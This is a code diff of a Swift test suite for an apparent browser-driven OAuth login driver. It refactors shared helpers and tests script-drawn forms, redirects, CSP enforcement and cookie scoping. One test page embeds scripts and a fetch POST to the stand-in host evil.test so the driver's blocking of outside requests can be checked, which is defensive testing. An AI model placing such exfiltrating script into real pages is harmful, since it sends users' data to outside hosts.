@@ -1,55 +1,16 @@
 import BrowserEngine
 import Encodings
-import FoundationEssentials
 import HostedDialect
 import JourneyClient
 import JourneyModel
 import Testing
 
-/// Where Chromium and chromedriver are; `nil` if they are not on this machine.
-private let programs: BrowserPrograms? = {
-  do throws(BrowserPrograms.Missing) { return try BrowserPrograms.find(ProcessInfo.processInfo.environment) } catch { return nil }
-}()
-
 /// Pages whose scripts do what plain HTTP cannot, in a real browser.
 @Suite(
   .serialized, .timeLimit(.minutes(2)),
-  .enabled(if: programs != nil, "no Chromium and chromedriver on this machine: apt-get install chromium chromium-driver"))
+  .enabled(if: ScriptedSite.programs != nil, "no Chromium and chromedriver on this machine: apt-get install chromium chromium-driver"))
 struct ScriptedPagesTests {
   private typealias Site = ScriptedSite
-
-  private func walk(_ pages: [String: HTTPResponseMessage], _ body: (inout HostedDriver, ScriptedSite) async throws -> Void) async throws {
-    let site = ScriptedSite(pages)
-    let client = OAuthClient(
-      issuer: try WebURL(ScriptedSite.issuer), id: "app", redirectURI: try WebURL("com.example.app:/callback"),
-      headers: [Exchange.Header("X-Test", .text("on"))])
-    let configuration = HostedConfiguration(client: client)
-    let reach = BrowserReach(pages: client.allowed, resources: client.allowed, addresses: configuration.addresses)
-    try await BrowserHost.withHost(try #require(programs)) { host in
-      let seat = BrowserSeat(host, transport: site, reach: reach) { site.now }
-      var driver = HostedDriver(
-        configuration: configuration, transport: site, generator: SeededGenerator(seed: 7), engine: seat.makeEngine(),
-        now: { site.now })
-      let outcome: Result<Void, any Error>
-      do { outcome = .success(try await body(&driver, site)) } catch { outcome = .failure(error) }
-      await seat.close()
-      try outcome.get()
-    }
-  }
-
-  private func screen(_ turn: Turn) throws -> Screen {
-    guard case .screen(let screen) = turn.now else { throw Unexpected(now: turn.now) }
-    return screen
-  }
-
-  private struct Unexpected: Error { var now: Turn.Now }
-
-  private func submission(_ form: String, _ answers: [String: AnswerValue], pressing: String? = nil) -> DriverAction {
-    .submit(
-      Submission(
-        form: FormID(form), answers: answers.sorted { $0.key < $1.key }.map { Answer(widget: WidgetID($0.key), value: $0.value) },
-        submitter: pressing.map { WidgetID($0) }))
-  }
 
   @Test func `a page that only its script draws is read, and what it hides is hidden`() async throws {
     let script = """
@@ -58,8 +19,8 @@ struct ScriptedPagesTests {
           + '<label class=off>Trap <input name=trap></label><button>Go</button></form>';
       }, 200)</script>
       """
-    try await walk(["GET /authorize": Site.page(script)]) { driver, site in
-      let screen = try screen(try await driver.perform(.start(StartParameters())))
+    try await Site.walk(["GET /authorize": Site.page(script)]) { driver, site in
+      let screen = try Site.screen(try await driver.perform(.start(StartParameters())))
       #expect(screen.id.text == "/authorize#drawn")
       let form = try #require(screen.forms.first)
       #expect(form.widgets.first { $0.id.text == "name" }?.isVisible == true)
@@ -76,11 +37,11 @@ struct ScriptedPagesTests {
     let pages = [
       "GET /authorize": Site.page(form), "POST /login": Site.redirect(to: "com.example.app:/callback?code=c&state=s", status: 303),
     ]
-    try await walk(pages) { driver, site in
+    try await Site.walk(pages) { driver, site in
       _ = try await driver.perform(.start(StartParameters()))
       let secret = Secret("Jane-horse-11", name: "password", source: .project)
       let turn = try await driver.perform(
-        submission("/login", ["user": .text("jane"), "pass": .secret(secret), "keep": .bool(true), "size": .text("M")]))
+        Site.submission("/login", ["user": .text("jane"), "pass": .secret(secret), "keep": .bool(true), "size": .text("M")]))
       #expect(turn.now == .ended(.completed))
       let posted = try #require(site.requests.last { $0.method == "POST" })
       #expect(String(decoding: posted.body, as: UTF8.self) == "user=jane&pass=Jane-horse-11&keep=on&token=t1&size=M&go=1")
@@ -96,7 +57,7 @@ struct ScriptedPagesTests {
     "<meta http-equiv=refresh content='0;url=com.example.app:/callback?code=c'>",
   ])
   func `the way back to the app is caught whatever leads there`(body: String) async throws {
-    try await walk(["GET /authorize": Site.page(body)]) { driver, _ in
+    try await Site.walk(["GET /authorize": Site.page(body)]) { driver, _ in
       let first = try await driver.perform(.start(StartParameters()))
       // The browser goes on in a fresh tab.
       let second = try await driver.perform(.start(StartParameters()))
@@ -108,10 +69,10 @@ struct ScriptedPagesTests {
     let form = """
       <form method=post action=/code><input name=code oninput="if (value.length == 6) form.submit()"><button>Go</button></form>
       """
-    try await walk(["GET /authorize": Site.page(form), "POST /code": Site.page("<h1>Done</h1>")]) { driver, site in
+    try await Site.walk(["GET /authorize": Site.page(form), "POST /code": Site.page("<h1>Done</h1>")]) { driver, site in
       _ = try await driver.perform(.start(StartParameters()))
-      let turn = try await driver.perform(submission("/code", ["code": .text("123456")]))
-      #expect(try screen(turn).id.text == "/code#done")
+      let turn = try await driver.perform(Site.submission("/code", ["code": .text("123456")]))
+      #expect(try Site.screen(turn).id.text == "/code#done")
       #expect(site.requests.count { $0.method == "POST" } == 1)
     }
   }
@@ -122,9 +83,9 @@ struct ScriptedPagesTests {
       "GET /authorize": Site.page(form, headers: ["Content-Security-Policy": "form-action 'self'"]),
       "POST /login": Site.redirect(to: "com.example.app:/callback?code=secret-code"),
     ]
-    try await walk(pages) { driver, _ in
+    try await Site.walk(pages) { driver, _ in
       _ = try await driver.perform(.start(StartParameters()))
-      let error = await #expect(throws: DriverError.self) { try await driver.perform(submission("/login", [:])) }
+      let error = await #expect(throws: DriverError.self) { try await driver.perform(Site.submission("/login", [:])) }
       #expect(error?.message.contains("form-action 'self'") == true, "\(String(describing: error))")
       #expect(error?.message.contains("secret-code") == false)
     }
@@ -135,10 +96,10 @@ struct ScriptedPagesTests {
       <h1>Home</h1><img src=https://evil.test/a.png><script src=https://evil.test/b.js></script><a id=out href=https://evil.test/out>Out</a>
       <script>fetch('http://127.0.0.1:9/x').catch(() => 0); fetch('https://evil.test/c', {method: 'POST', body: 'x'}).catch(() => 0)</script>
       """
-    try await walk(["GET /authorize": Site.page(body)]) { driver, site in
+    try await Site.walk(["GET /authorize": Site.page(body)]) { driver, site in
       let turn = try await driver.perform(.start(StartParameters()))
       #expect(turn.warnings.contains { $0.contains("'https://evil.test") })
-      guard case .handover(let handover) = try await driver.perform(submission("out", [:])).now else {
+      guard case .handover(let handover) = try await driver.perform(Site.submission("out", [:])).now else {
         Issue.record("no hand-over")
         return
       }
@@ -149,7 +110,7 @@ struct ScriptedPagesTests {
 
   @Test func `cookies stay with a browser and not with another one`() async throws {
     let pages = ["GET /authorize": Site.page("<h1>Home</h1>", headers: ["Set-Cookie": "__Host-s=1; Secure; HttpOnly; Path=/"])]
-    try await walk(pages) { driver, site in
+    try await Site.walk(pages) { driver, site in
       _ = try await driver.perform(.start(StartParameters()))
       _ = try await driver.perform(.refresh)
       _ = try await driver.perform(.start(StartParameters(keys: [Value.Member("session", "ephemeral")])))
@@ -160,7 +121,7 @@ struct ScriptedPagesTests {
 
   @Test func `a cookie ends by the tenant's clock`() async throws {
     let pages = ["GET /authorize": Site.page("<h1>Home</h1>", headers: ["Set-Cookie": "s=1; Secure; Max-Age=60"])]
-    try await walk(pages) { driver, site in
+    try await Site.walk(pages) { driver, site in
       _ = try await driver.perform(.start(StartParameters()))
       _ = try await driver.perform(.refresh)
       site.pass(.seconds(61))
@@ -171,7 +132,7 @@ struct ScriptedPagesTests {
   }
 
   @Test func `an error of the server is told as by plain HTTP`() async throws {
-    try await walk(["GET /authorize": Site.page("<h1>Oops</h1>", status: 503)]) { driver, _ in
+    try await Site.walk(["GET /authorize": Site.page("<h1>Oops</h1>", status: 503)]) { driver, _ in
       let error = await #expect(throws: DriverError.self) { try await driver.perform(.start(StartParameters())) }
       #expect(error?.kind == .status)
     }
